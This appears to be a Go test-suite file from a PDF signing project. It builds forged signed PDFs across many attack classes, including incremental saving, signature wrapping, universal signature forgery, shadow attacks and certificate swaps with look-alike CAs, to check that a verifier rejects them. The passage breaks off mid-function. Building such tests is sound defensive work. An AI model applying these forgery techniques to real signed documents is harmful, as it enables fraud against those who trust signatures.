package attacksuite

import (
	"bytes"
	"crypto/x509"
	"encoding/asn1"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"github.com/digitorus/pkcs7"

	"github.com/kyso-vn/kyso/internal/hostilepdf"
	"github.com/kyso-vn/kyso/model"
	"github.com/kyso-vn/kyso/signer/pades"
)

// Class is an attack class of issue 11, or the honest controls.
type Class string

// The classes.
const (
	// ClassISA: an incremental update with a classic cross-reference
	// table that redefines a signed page (incremental saving attack).
	ClassISA Class = "ISA"
	// ClassHybridISA: the same through a hybrid-reference update: an
	// empty table whose trailer's /XRefStm names a cross-reference stream
	// that redefines the page.
	ClassHybridISA Class = "hybrid /XRefStm ISA"
	// ClassXRefStmISA: the page dictionary redefined inside an object
	// stream, listed by a cross-reference stream whose /Prev is the
	// classic table kyso wrote.
	ClassXRefStmISA Class = "xref-stream + object-stream ISA"
	// ClassShadowHide: an allowed change (a form field re-filled)
	// uncovers signed text that was hidden.
	ClassShadowHide Class = "shadow hide"
	// ClassShadowReplace: an allowed change (a FreeText annotation, a
	// field re-filled) paints over signed text.
	ClassShadowReplace Class = "shadow replace"
	// ClassShadowHideReplace: content the attacker put in the document
	// before it was signed, unused, is swapped in by an update that only
	// changes references (PDF-Insecurity's hide-and-replace).
	ClassShadowHideReplace Class = "shadow hide-and-replace"
	// ClassSWA: the second signed range moved behind attacker's bytes,
	// with a cross-reference table where the signed startxref points.
	ClassSWA Class = "signature wrapping"
	// ClassUSF: signature dictionaries with missing, empty, null or
	// malformed /Contents and /ByteRange (universal signature forgery).
	ClassUSF Class = "universal signature forgery"
	// ClassCertSwap: the CMS's certificate replaced by another with the
	// same name, or an attacker's certificate of the same name.
	ClassCertSwap Class = "certificate swap"
	// ClassUntrusted: a second signature whose certificate chains to no
	// trust anchor.
	ClassUntrusted Class = "untrusted second signer"
	// ClassDocMDP: changes a certification signature's DocMDP P=1 or P=2
	// forbids.
	ClassDocMDP Class = "DocMDP violation"
	// ClassFieldMDP: a field locked by a signature's FieldMDP transform
	// or its field's /Lock changed.
	ClassFieldMDP Class = "FieldMDP violation"
	// ClassNonSigning: a document signed with a certificate whose key
	// usage or extended key usage does not allow document signing.
	ClassNonSigning Class = "non-signing certificate"
	// ClassBomb: updates that exhaust readers (deep nesting, huge object
	// counts, decompression bombs, cross-reference loops).
	ClassBomb Class = "resource bomb"
	// ClassControl: honest documents and changes: every entry must be
	// TOTAL_PASSED.
	ClassControl Class = "honest control"
)

// Case is one document of the suite.
type Case struct {
	// Name says what was done to which base.
	Name  string
	Class Class
	Base  *Base
	PDF   []byte
	// Targets are the fields whose signatures the attack is against:
	// each must be reported and none TOTAL_PASSED. Empty means every
	// entry of the report. Controls have none: every entry must be
	// TOTAL_PASSED.
	Targets []string
	// Evidence is what an independent tool must show for the forgery to
	// be real.
	Evidence Evidence
	// MayRefuse allows the verifier to refuse the document as
	// unreadable, which gives no green verdict either (resource bombs).
	MayRefuse bool
}

// Evidence is what poppler's tools must show of a forged document.
type Evidence struct {
	// Page is the page the checks below are about (1-based).
	Page int
	// Shows is text pdftotext finds on Page of the forgery and not of
	// the base.
	Shows string
	// Hides is text pdftotext finds on Page of the base and not of the
	// forgery.
	Hides string
	// Renders means Page renders differently (pdftoppm) from the base's.
	Renders bool
	// Signer is a common name pdfsig reports as a signer.
	Signer string
	// OnBlank means Page renders differently from the base's only where
	// the base's page is white: an honest change that covers nothing.
	OnBlank bool
}

// Honest reports whether c is a control.
func (c *Case) Honest() bool { return c.Class == ClassControl }

// builder makes the cases of one kind for a base; it returns none for
// bases it does not apply to.
type builder func(p *PKI, b *Base) ([]Case, error)

// Cases builds every attack and control of the suite on the bases.
func (p *PKI) Cases(bases []*Base) ([]Case, error) {
	var out []Case
	for _, b := range bases {
		for _, build := range []builder{
			controls,
			isaClassic, isaHybrid, isaXRefStream,
			shadowHide, shadowReplace, shadowHideReplace,
			swa, usf, certSwap, untrusted, docMDP, fieldMDP, nonSigning, bombs,
			structure, sigContent,
		} {
			cs, err := build(p, b)
			if err != nil {
				return nil, fmt.Errorf("attacksuite: %s: %w", b.Name, err)
			}
			out = append(out, cs...)
		}
	}
	return out, nil
}

// attack returns the case of class on b named name whose document is doc,
// or err (the error of making doc) with the name.
func attack(class Class, b *Base, name string, doc []byte, err error, ev Evidence, targets ...string) ([]Case, error) {
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if ev.Page == 0 {
		ev.Page = 1
	}
	return []Case{{Name: name + " / " + b.Name, Class: class, Base: b, PDF: doc, Evidence: ev, Targets: targets}}, nil
}

// collect concatenates the results of several attack calls.
func collect(parts ...func() ([]Case, error)) ([]Case, error) {
	var out []Case
	for _, part := range parts {
		cs, err := part()
		if err != nil {
			return nil, err
		}
		out = append(out, cs...)
	}
	return out, nil
}

// forgedPage returns the objects an update needs to show the attacker's
// page instead of page 1 of doc, and the evidence it leaves: byContent
// redefines page 1's content stream (blank, or the forged text when the
// page has a font to write it in); otherwise the page dictionary is
// redefined to use new content and a new font.
func forgedPage(doc []byte, b *Base, byContent bool) (page Page, objs map[int]string, ev Evidence, err error) {
	if page, err = PageOf(doc, 1); err != nil {
		return page, nil, ev, err
	}
	n, err := Size(doc)
	if err != nil {
		return page, nil, ev, err
	}
	if byContent {
		if page.Contents == 0 {
			return page, nil, ev, errors.New("page 1 has no indirect content stream")
		}
		if b.Font != "" {
			return page, map[int]string{page.Contents: Stream("", forgedContent(b.Font))}, Evidence{Shows: ForgedText, Hides: b.Marker}, nil
		}
		return page, map[int]string{page.Contents: Stream("", blankContent)}, Evidence{Hides: b.Marker, Renders: true}, nil
	}
	body, err := withFont(page.Body, fmt.Sprintf("%d 0 R", n+1))
	if err == nil {
		body, err = withContents(body, fmt.Sprintf("%d 0 R", n))
	}
	if err != nil {
		return page, nil, ev, err
	}
	return page, map[int]string{
		page.ID: body,
		n:       Stream("", forgedContent("FK")),
		n + 1:   "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
	}, Evidence{Shows: ForgedText, Hides: b.Marker}, nil
}

// split moves key out of m into a map of its own.
func split(m map[int]string, key int) (rest, one map[int]string) {
	rest = map[int]string{}
	for k, v := range m {
		if k != key {
			rest[k] = v
		}
	}
	return rest, map[int]string{key: m[key]}
}

func isaClassic(_ *PKI, b *Base) ([]Case, error) {
	var out []Case
	for _, byContent := range []bool{true, false} {
		_, objs, ev, err := forgedPage(b.PDF, b, byContent)
		if err != nil {
			return nil, err
		}
		doc, err := Append(b.PDF, Update{Objects: objs})
		cs, err := attack(ClassISA, b, map[bool]string{true: "page content redefined", false: "page dictionary redefined"}[byContent], doc, err, ev)
		if err != nil {
			return nil, err
		}
		out = append(out, cs...)
	}
	// The update's startxref more than 1 KiB before the end, behind
	// comment lines and a "startxref" that names no offset: a reader that
	// looks only at the last kilobyte must still find the update (the
	// PDF reader looks there first, then scans back).
	_, objs, ev, err := forgedPage(b.PDF, b, true)
	if err != nil {
		return nil, err
	}
	doc, err := Append(b.PDF, Update{Objects: objs})
	if err == nil {
		pad := bytes.Repeat([]byte("%"+strings.Repeat(" ", 62)+"\n"), 24)
		doc = append(append(doc, pad...), "% startxref\n%%EOF\n"...)
	}
	cs, err := attack(ClassISA, b, "page content redefined, startxref far from the end", doc, err, ev)
	if err != nil {
		return nil, err
	}
	return append(out, cs...), nil
}

func isaHybrid(_ *PKI, b *Base) ([]Case, error) {
	return collect(
		func() ([]Case, error) {
			_, objs, ev, err := forgedPage(b.PDF, b, true)
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Form: Hybrid, Hidden: objs})
			return attack(ClassHybridISA, b, "page content redefined through /XRefStm", doc, err, ev)
		},
		func() ([]Case, error) {
			_, objs, ev, err := forgedPage(b.PDF, b, false)
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Form: Hybrid, Hidden: objs})
			return attack(ClassHybridISA, b, "page dictionary redefined through /XRefStm", doc, err, ev)
		},
		func() ([]Case, error) {
			page, objs, ev, err := forgedPage(b.PDF, b, false)
			if err != nil {
				return nil, err
			}
			rest, pg := split(objs, page.ID)
			doc, err := Append(b.PDF, Update{Form: Hybrid, Hidden: rest, Packed: pg})
			return attack(ClassHybridISA, b, "page dictionary redefined in an object stream through /XRefStm", doc, err, ev)
		},
	)
}

func isaXRefStream(_ *PKI, b *Base) ([]Case, error) {
	return collect(
		func() ([]Case, error) {
			_, objs, ev, err := forgedPage(b.PDF, b, true)
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Form: XRefStream, Objects: objs})
			return attack(ClassXRefStmISA, b, "page content redefined by an xref stream over a table", doc, err, ev)
		},
		func() ([]Case, error) {
			page, objs, ev, err := forgedPage(b.PDF, b, false)
			if err != nil {
				return nil, err
			}
			rest, pg := split(objs, page.ID)
			doc, err := Append(b.PDF, Update{Form: XRefStream, Objects: rest, Packed: pg})
			return attack(ClassXRefStmISA, b, "page dictionary redefined in an object stream by an xref stream over a table", doc, err, ev)
		},
	)
}

// refill returns the update that gives field id of doc the value value and
// a new normal appearance ap (a stream object body).
func refill(doc []byte, id int, value, ap string) (map[int]string, error) {
	body, err := ObjectBody(doc, id)
	if err != nil {
		return nil, err
	}
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	v := regexp.MustCompile(`/V\s*\((?:\\.|[^\\)])*\)`)
	if v.MatchString(body) {
		body = v.ReplaceAllLiteralString(body, "/V "+pdfString(value))
	} else {
		body = strings.Replace(body, "<<", "<< /V "+pdfString(value), 1)
	}
	apRef := regexp.MustCompile(`/AP\s*<<\s*/N\s*[0-9]+\s+[0-9]+\s+R\s*>>`)
	if !apRef.MatchString(body) {
		return nil, fmt.Errorf("field %d has no /AP << /N ref >>", id)
	}
	body = apRef.ReplaceAllLiteralString(body, fmt.Sprintf("/AP << /N %d 0 R >>", n))
	return map[int]string{id: body, n: ap}, nil
}

// overlay returns the update that adds to page 1 of doc a FreeText
// annotation at rect whose appearance paints text on white.
func overlay(doc []byte, rect [4]int, text string) (map[int]string, error) {
	page, err := PageOf(doc, 1)
	if err != nil {
		return nil, err
	}
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	body, err := withAnnot(page.Body, fmt.Sprintf("%d 0 R", n))
	if err != nil {
		return nil, err
	}
	w, h := rect[2]-rect[0], rect[3]-rect[1]
	ap := fmt.Sprintf("1 g 0 0 %d %d re f BT /Helv 12 Tf 0 g 4 %d Td %s Tj ET", w, h, h/2-4, pdfString(text))
	return map[int]string{
		page.ID: body,
		n: fmt.Sprintf("<< /Type /Annot /Subtype /FreeText /Rect [%d %d %d %d] /F 4 /P %d 0 R /Contents %s /DA (/Helv 12 Tf 0 g) /AP << /N %d 0 R >> >>",
			rect[0], rect[1], rect[2], rect[3], page.ID, pdfString(text), n+1),
		n + 1: Stream(fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helv %d 0 R >> >>", w, h, n+2), ap),
		n + 2: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
	}, nil
}

func shadowHide(_ *PKI, b *Base) ([]Case, error) {
	if !b.Form || b.Certify == 1 {
		return nil, nil
	}
	objs, err := refill(b.PDF, FieldCover, "", FieldAppearance(480, 35, "", false))
	if err != nil {
		return nil, err
	}
	doc, err := Append(b.PDF, Update{Objects: objs})
	return attack(ClassShadowHide, b, "covering field re-filled empty to reveal signed text", doc, err, Evidence{Renders: true})
}

// paintOver is a signature appearance that paints text on white over
// whatever its widget covers.
func paintOver(text string) pades.AppearanceFunc {
	return func(w pades.ObjectWriter, width, height float64) ([]byte, error) {
		font, err := w.AddObject([]byte("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"))
		if err != nil {
			return nil, err
		}
		content := fmt.Sprintf("1 g 0 0 %.0f %.0f re f BT /Helv 12 Tf 0 g 4 %.0f Td %s Tj ET", width, height, height/2-4, pdfString(text))
		return []byte(Stream(fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 %.0f %.0f] /Resources << /Font << /Helv %d 0 R >> >>", width, height, font), content)), nil
	}
}

func shadowReplace(p *PKI, b *Base) ([]Case, error) {
	var parts []func() ([]Case, error)
	if b.Certify == 0 {
		// A FreeText annotation over the first line of page 1.
		parts = append(parts, func() ([]Case, error) {
			rect := [4]int{55, 690, 420, 720} // over SignedAmount
			switch {
			case b.VN:
				rect = [4]int{30, 740, 320, 800} // over the issuer's name
			case !b.Form:
				rect = [4]int{60, 750, 540, 785} // over "Trang 1 / Page 1"
			}
			objs, err := overlay(b.PDF, rect, "So tien duoc duyet: 900.000.000.000 dong")
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: objs})
			return attack(ClassShadowReplace, b, "FreeText annotation painted over signed text", doc, err, Evidence{Renders: true})
		})
	}
	if b.Certify != 1 && b.ShadowID == 0 {
		// The sneaky signature (Mainka et al., 2021): signing is allowed
		// after an approval signature and under DocMDP P=2, and any
		// citizen holds a trusted certificate; the new signature's
		// widget paints over the signed text. The earlier signatures are
		// the targets: the page they signed is no longer what is shown.
		parts = append(parts, func() ([]Case, error) {
			rect := [4]float64{55, 690, 420, 720}
			switch {
			case b.VN:
				rect = [4]float64{30, 740, 320, 800}
			case !b.Form:
				rect = [4]float64{60, 750, 540, 785}
			}
			var targets []string
			sigs, err := Signatures(b.PDF)
			if err != nil {
				return nil, err
			}
			for _, s := range sigs {
				targets = append(targets, s.Field)
			}
			doc, err := p.Sign(b.PDF, p.Citizen, pades.Options{Level: pades.LevelBT, Rect: rect, Appearance: paintOver("So tien duoc duyet: 900.000.000.000 dong")})
			return attack(ClassShadowReplace, b, "sneaky signature: a trusted signer's widget painted over signed text", doc, err,
				Evidence{Renders: true, Signer: p.Citizen.Cert.Subject.CommonName}, targets...)
		})
	}
	if b.Form && b.Certify != 1 {
		parts = append(parts,
			func() ([]Case, error) {
				objs, err := refill(b.PDF, FieldAmount, "9999999", FieldAppearance(160, 25, "9999999", true))
				if err != nil {
					return nil, err
				}
				doc, err := Append(b.PDF, Update{Objects: objs})
				return attack(ClassShadowReplace, b, "filled field re-filled (amount 100 to 9999999)", doc, err, Evidence{Renders: true})
			},
			func() ([]Case, error) {
				objs, err := refill(b.PDF, FieldCover, "Y kien: DONG Y", FieldAppearance(480, 35, "Y kien: DONG Y", true))
				if err != nil {
					return nil, err
				}
				doc, err := Append(b.PDF, Update{Objects: objs})
				return attack(ClassShadowReplace, b, "covering field re-filled with the opposite statement", doc, err, Evidence{Renders: true})
			})
	}
	return collect(parts...)
}

func shadowHideReplace(_ *PKI, b *Base) ([]Case, error) {
	if b.ShadowID == 0 {
		return nil, nil
	}
	page, err := PageOf(b.PDF, 1)
	if err != nil {
		return nil, err
	}
	ev := Evidence{Shows: ForgedText, Hides: b.Marker}
	return collect(
		func() ([]Case, error) {
			body, err := withContents(page.Body, fmt.Sprintf("%d 0 R", b.ShadowID))
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: map[int]string{page.ID: body}})
			return attack(ClassShadowHideReplace, b, "page pointed at the signed, unused shadow content", doc, err, ev)
		},
		func() ([]Case, error) {
			doc, err := Append(b.PDF, Update{Remap: map[int]int64{page.Contents: b.ShadowOffset}})
			return attack(ClassShadowHideReplace, b, "table entry moved to the signed shadow definition", doc, err, ev)
		},
		func() ([]Case, error) {
			doc, err := Append(b.PDF, Update{Form: Hybrid, Remap: map[int]int64{page.Contents: b.ShadowOffset}})
			return attack(ClassShadowHideReplace, b, "/XRefStm entry moved to the signed shadow definition", doc, err, ev)
		},
		func() ([]Case, error) {
			doc, err := Append(b.PDF, Update{Form: XRefStream, Remap: map[int]int64{page.Contents: b.ShadowOffset}})
			return attack(ClassShadowHideReplace, b, "xref stream entry moved to the signed shadow definition", doc, err, ev)
		},
	)
}

// table is a classic cross-reference section as written.
type table struct {
	offsets map[int]int64 // in-use entries
	prev    int64         // its trailer's /Prev, -1 if none
}

var (
	subsectionRE = regexp.MustCompile(`^([0-9]+) ([0-9]+)\s*$`)
	prevRE       = regexp.MustCompile(`/Prev\s+([0-9]+)`)
)

// readTable reads the classic cross-reference section at off.
func readTable(doc []byte, off int64) (table, error) {
	t := table{offsets: map[int]int64{}, prev: -1}
	if off < 0 || off >= int64(len(doc)) || !bytes.HasPrefix(doc[off:], []byte("xref")) {
		return t, fmt.Errorf("no classic cross-reference table at %d", off)
	}
	lines := strings.Split(strings.ReplaceAll(string(doc[off:]), "\r", ""), "\n")[1:]
	for i := 0; i < len(lines); {
		m := subsectionRE.FindStringSubmatch(lines[i])
		if m == nil {
			break
		}
		first, _ := strconv.Atoi(m[1])
		count, _ := strconv.Atoi(m[2])
		if i+1+count > len(lines) {
			return t, errors.New("cross-reference subsection past the end")
		}
		for j := 0; j < count; j++ {
			f := strings.Fields(lines[i+1+j])
			if len(f) == 3 && f[2] == "n" {
				t.offsets[first+j], _ = strconv.ParseInt(f[0], 10, 64)
			}
		}
		i += 1 + count
	}
	tr := doc[off:]
	if end := bytes.Index(tr, []byte("startxref")); end >= 0 {
		tr = tr[:end]
	}
	if m := prevRE.FindSubmatch(tr); m != nil {
		t.prev, _ = strconv.ParseInt(string(m[1]), 10, 64)
	}
	return t, nil
}

var byteRangeRE = regexp.MustCompile(`/ByteRange\s*\[[^\]]*\]`)

// wrap builds the signature wrapping attack on doc's last signature (the
// PDF-Insecurity SWA, 2019): the bytes after its /Contents are moved
// behind an inserted block; at the offset the signed "startxref" names, the
// block holds the attacker's table, which points the signature field at a
// copy of the signature dictionary whose /ByteRange follows the moved bytes
// (so the signed bytes and the CMS are unchanged), and page 1 at forged
// content.
func wrap(doc []byte, b *Base) ([]byte, Evidence, error) {
	sigs, err := Signatures(doc)
	if err != nil {
		return nil, Evidence{}, err
	}
	if len(sigs) == 0 {
		return nil, Evidence{}, errors.New("no signature")
	}
	last := sigs[len(sigs)-1]
	if last.ID == 0 {
		return nil, Evidence{}, errors.New("the last signature dictionary is direct")
	}
	br := last.ByteRange
	in, err := readInfo(doc)
	if err != nil {
		return nil, Evidence{}, err
	}
	x := in.startxref
	tab, err := readTable(doc, x)
	if err != nil {
		return nil, Evidence{}, err
	}
	c := br[2]
	if x-c < 4 {
		return nil, Evidence{}, fmt.Errorf("the table at %d is too close to the signature's /Contents (%d)", x, c)
	}
	sigBody, err := ObjectBody(doc, last.ID)
	if err != nil {
		return nil, Evidence{}, err
	}
	page, objs, ev, err := forgedPage(doc, b, true)
	if err != nil {
		return nil, Evidence{}, err
	}
	content := objs[page.Contents]

	// block returns the inserted bytes when they are k long.
	block := func(k int64) []byte {
		var j bytes.Buffer
		j.WriteString("\n%")
		j.Write(bytes.Repeat([]byte{'-'}, int(x-c)-3))
		j.WriteString("\n")
		// At offset x of the new file: the attacker's table.
		after := c + int64(j.Len()) // where the table starts
		entries := map[int]int64{}
		for id, off := range tab.offsets {
			if off >= c {
				off += k
			}
			entries[id] = off
		}
		var objsBuf bytes.Buffer
		tableLen := 5 + (len(entries)+2)*(len("9999999 1\n")+20) // generous bound, padded below
		objStart := after + int64(tableLen) + 200
		entries[last.ID] = objStart
		fmt.Fprintf(&objsBuf, "%d 0 obj\n%s\nendobj\n", last.ID, byteRangeRE.ReplaceAllLiteralString(sigBody,
			fmt.Sprintf("/ByteRange [0 %010d %010d %010d]", br[1], c+k, br[3])))
		entries[page.Contents] = objStart + int64(objsBuf.Len())
		fmt.Fprintf(&objsBuf, "%d 0 obj\n%s\nendobj\n", page.Contents, content)

		var tb bytes.Buffer
		tb.WriteString("xref\n")
		for _, id := range sortedIDs(entries) {
			fmt.Fprintf(&tb, "%d 1\n%010d 00000 n\r\n", id, entries[id])
		}
		prev := ""
		if tab.prev >= 0 {
			prev = fmt.Sprintf(" /Prev %d", tab.prev)
		}
		fmt.Fprintf(&tb, "trailer\n<< /Size %d /Root %s%s%s >>\n", in.size, in.root, in.extra, prev)
		if int64(tb.Len()) > objStart-after {
			return nil
		}
		j.Write(tb.Bytes())
		j.Write(bytes.Repeat([]byte{' '}, int(objStart-after)-tb.Len()))
		j.Write(objsBuf.Bytes())
		j.WriteString("%")
		return j.Bytes()
	}
	// The block's length does not depend on k (offsets are fixed width).
	k := int64(len(block(0)))
	j := block(k)
	if j == nil || int64(len(j)) != k {
		return nil, Evidence{}, errors.New("the wrapping block does not fit")
	}
	out := make([]byte, 0, int64(len(doc))+k)
	out = append(out, doc[:c]...)
	out = append(out, j...)
	out = append(out, doc[c:]...)
	return out, ev, nil
}

func swa(_ *PKI, b *Base) ([]Case, error) {
	if b.Form || b.ShadowID != 0 || b.Certify != 0 && !b.VN {
		return nil, nil // one of each kind of base is enough
	}
	doc, ev, err := wrap(b.PDF, b)
	return attack(ClassSWA, b, "second signed range moved behind the attacker's table", doc, err, ev)
}

// usfVariants are the malformed signature dictionaries of universal
// signature forgery: what each does to a signature dictionary's body.
var usfVariants = []struct {
	name string
	edit func(body string) string
}{
	{"/Contents removed", func(s string) string { return contentsRE.ReplaceAllLiteralString(s, "") }},
	{"/Contents empty", func(s string) string { return contentsRE.ReplaceAllLiteralString(s, "/Contents <>") }},
	{"/Contents null", func(s string) string { return contentsRE.ReplaceAllLiteralString(s, "/Contents null") }},
	{"/Contents all zeros", func(s string) string {
		return contentsRE.ReplaceAllStringFunc(s, func(c string) string {
			inner := contentsRE.FindStringSubmatch(c)[1]
			return "/Contents <" + strings.Repeat("0", len(hexDigits.FindAllString(inner, -1))) + ">"
		})
	}},
	{"/ByteRange removed", func(s string) string { return byteRangeRE.ReplaceAllLiteralString(s, "") }},
	{"/ByteRange null", func(s string) string { return byteRangeRE.ReplaceAllLiteralString(s, "/ByteRange null") }},
	{"/ByteRange empty", func(s string) string { return byteRangeRE.ReplaceAllLiteralString(s, "/ByteRange []") }},
	{"/ByteRange [0 0 0 0]", func(s string) string { return byteRangeRE.ReplaceAllLiteralString(s, "/ByteRange [0 0 0 0]") }},
	{"/ByteRange of nulls", func(s string) string {
		return byteRangeRE.ReplaceAllLiteralString(s, "/ByteRange [null null null null]")
	}},
	{"/Filter and /SubFilter removed", func(s string) string {
		return regexp.MustCompile(`/(Sub)?Filter\s*/[A-Za-z0-9.]+`).ReplaceAllLiteralString(s, "")
	}},
}

var (
	contentsRE = regexp.MustCompile(`/Contents\s*<([0-9A-Fa-f\s]*)>`)
	hexDigits  = regexp.MustCompile(`[0-9A-Fa-f]`)
)

func usf(p *PKI, b *Base) ([]Case, error) {
	if b.Name != "kyso B-T" && b.Name != "kyso B-LTA" && !strings.HasPrefix(b.Name, "Hanoi") {
		return nil, nil
	}
	sigs, err := Signatures(b.PDF)
	if err != nil {
		return nil, err
	}
	last := sigs[len(sigs)-1]
	body, err := ObjectBody(b.PDF, last.ID)
	if err != nil {
		return nil, err
	}
	var parts []func() ([]Case, error)
	for _, v := range usfVariants {
		parts = append(parts, func() ([]Case, error) {
			forged := v.edit(body)
			if forged == body {
				return nil, fmt.Errorf("%s changed nothing", v.name)
			}
			doc, err := Append(b.PDF, Update{Objects: map[int]string{last.ID: forged}})
			return attack(ClassUSF, b, "signature dictionary rewritten: "+v.name, doc, err, Evidence{}, last.Field)
		})
	}
	// A new signature field whose dictionary names the official and has
	// neither /Contents nor /ByteRange worth the name.
	parts = append(parts, func() ([]Case, error) {
		n, err := Size(b.PDF)
		if err != nil {
			return nil, err
		}
		objs := map[int]string{n: fmt.Sprintf("<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Name %s /M (D:20261123100000+07'00') /ByteRange [0 0 0 0] /Contents <> >>",
			pdfHexText(p.Official.Cert.Subject.CommonName))}
		if err := addField(b.PDF, objs, n+1, fmt.Sprintf("<< /FT /Sig /T (Forged) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132 /V %d 0 R >>", n)); err != nil {
			return nil, err
		}
		doc, err := Append(b.PDF, Update{Objects: objs})
		return attack(ClassUSF, b, "forged signature field added with an empty /Contents", doc, err, Evidence{}, "Forged")
	})
	return collect(parts...)
}

// pdfHexText returns s as a PDF text string in UTF-16BE with a byte order
// mark (ISO 32000-1, 7.9.2.2), in hexadecimal.
func pdfHexText(s string) string {
	u := []byte{0xfe, 0xff}
	for _, r := range s {
		if r > 0xffff {
			r = '?'
		}
		u = append(u, byte(r>>8), byte(r))
	}
	return hexString(u)
}

// newFields returns the signature fields of doc that base does not have.
func newFields(base, doc []byte) ([]string, error) {
	before, err := Signatures(base)
	if err != nil {
		return nil, err
	}
	after, err := Signatures(doc)
	if err != nil {
		return nil, err
	}
	var out []string
	for _, s := range after {
		if !slices.ContainsFunc(before, func(o SigInfo) bool { return o.Field == s.Field }) {
			out = append(out, s.Field)
		}
	}
	if len(out) == 0 {
		return nil, errors.New("no new signature field")
	}
	return out, nil
}

// signedBy returns a case where cred signs b's document again with kyso's
// signer; the new signature is the target.
func signedBy(p *PKI, class Class, b *Base, name string, cred model.Key) ([]Case, error) {
	doc, err := p.Sign(b.PDF, cred, pades.Options{Level: pades.LevelBT})
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	targets, err := newFields(b.PDF, doc)
	if err != nil {
		return nil, err
	}
	return attack(class, b, name, doc, nil, Evidence{Signer: cred.Cert.Subject.CommonName}, targets...)
}

// lastSigner returns the certificate of the last signature of doc.
func lastSigner(doc []byte) (*x509.Certificate, error) {
	sigs, err := Signatures(doc)
	if err != nil {
		return nil, err
	}
	body, err := ObjectBody(doc, sigs[len(sigs)-1].ID)
	if err != nil {
		return nil, err
	}
	m := contentsRE.FindStringSubmatch(body)
	if m == nil {
		return nil, errors.New("the last signature dictionary has no hexadecimal /Contents")
	}
	hexText := strings.Join(hexDigits.FindAllString(m[1], -1), "")
	raw, err := decodeHex(hexText)
	if err != nil {
		return nil, err
	}
	var outer asn1.RawValue // the CMS, without /Contents' zero padding
	if _, err := asn1.Unmarshal(raw, &outer); err != nil {
		return nil, fmt.Errorf("the last signature's /Contents: %w", err)
	}
	p7, err := pkcs7.Parse(outer.FullBytes)
	if err != nil {
		return nil, fmt.Errorf("parse the last signature's CMS: %w", err)
	}
	if s := p7.GetOnlySigner(); s != nil {
		return s, nil
	}
	return nil, errors.New("the last signature's CMS has no single signer")
}

func certSwap(p *PKI, b *Base) ([]Case, error) {
	a := p.Attacker
	switch {
	case b.Name == "kyso B-T":
		official := p.Official.Cert
		// Poppler names the official for each of these but the third,
		// whose trap is for verifiers that take the first certificate.
		replace := func(name string, h HandCMS) func() ([]Case, error) {
			return func() ([]Case, error) {
				doc, err := ReplaceCMS(b.PDF, 0, h.Make)
				ev := Evidence{Signer: official.Subject.CommonName}
				if h.Certs[0] != h.SID && h.SID != official {
					ev = Evidence{}
				}
				return attack(ClassCertSwap, b, name, doc, err, ev)
			}
		}
		return collect(
			replace("CMS certificate replaced by a twin (same name, issuer name and serial)",
				HandCMS{Key: p.Official.Signer, SID: a.Twin.Cert, Certs: []*x509.Certificate{a.Twin.Cert, a.LookAlikeCA}, ESS: a.Twin.Cert}),
			replace("twin's key signs, the twin certificate and the official's",
				HandCMS{Key: a.Twin.Signer, SID: a.Twin.Cert, Certs: []*x509.Certificate{official, a.Twin.Cert, p.CA, a.LookAlikeCA}, ESS: a.Twin.Cert}),
			replace("attacker's key signs, the official's certificate first",
				HandCMS{Key: a.Mallory.Signer, SID: a.Mallory.Cert, Certs: []*x509.Certificate{official, p.CA, a.Mallory.Cert}, ESS: a.Mallory.Cert}),
			replace("attacker's key signs, the sid names the official",
				HandCMS{Key: a.Mallory.Signer, SID: official, Certs: []*x509.Certificate{official, p.CA}, ESS: official}),
			replace("signing-certificate-v2 names the official, the twin signs",
				HandCMS{Key: a.Twin.Signer, SID: a.Twin.Cert, Certs: []*x509.Certificate{official, a.Twin.Cert}, ESS: official}),
			func() ([]Case, error) {
				return signedBy(p, ClassCertSwap, b, "second signature by the twin under a CA named like kyso's", a.Twin)
			},
		)
	case strings.HasPrefix(b.Name, "Hanoi"):
		real, err := lastSigner(b.PDF)
		if err != nil {
			return nil, err
		}
		fake, err := LookAlike(real.RawIssuer, real.RawSubject)
		if err != nil {
			return nil, err
		}
		sigs, err := Signatures(b.PDF)
		if err != nil {
			return nil, err
		}
		last := sigs[len(sigs)-1]
		return collect(
			func() ([]Case, error) {
				doc, err := ReplaceCMS(b.PDF, len(sigs)-1, HandCMS{Key: fake.Signer, SID: fake.Cert, Certs: []*x509.Certificate{fake.Cert, fake.Chain[0]}, ESS: fake.Cert}.Make)
				return attack(ClassCertSwap, b, "last signature re-made by a look-alike of its signer and CA", doc, err, Evidence{Signer: real.Subject.CommonName}, last.Field)
			},
			func() ([]Case, error) {
				return signedBy(p, ClassCertSwap, b, "signature added by a look-alike of the last signer and its CA", fake)
			},
		)
	}
	return nil, nil
}

func untrusted(p *PKI, b *Base) ([]Case, error) {
	if b.Name != "kyso B-T" && !b.VN && b.Name != "kyso certified P=2" {
		return nil, nil
	}
	return signedBy(p, ClassUntrusted, b, "second signature by an attacker's own CA", p.Attacker.Mallory)
}

func docMDP(p *PKI, b *Base) ([]Case, error) {
	if b.Certify == 0 {
		return nil, nil
	}
	page, err := PageOf(b.PDF, 1)
	if err != nil {
		return nil, err
	}
	root, err := RootID(b.PDF)
	if err != nil {
		return nil, err
	}
	n, err := Size(b.PDF)
	if err != nil {
		return nil, err
	}
	parts := []func() ([]Case, error){
		func() ([]Case, error) {
			objs, err := overlay(b.PDF, [4]int{60, 20, 300, 50}, "Da xem")
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: objs})
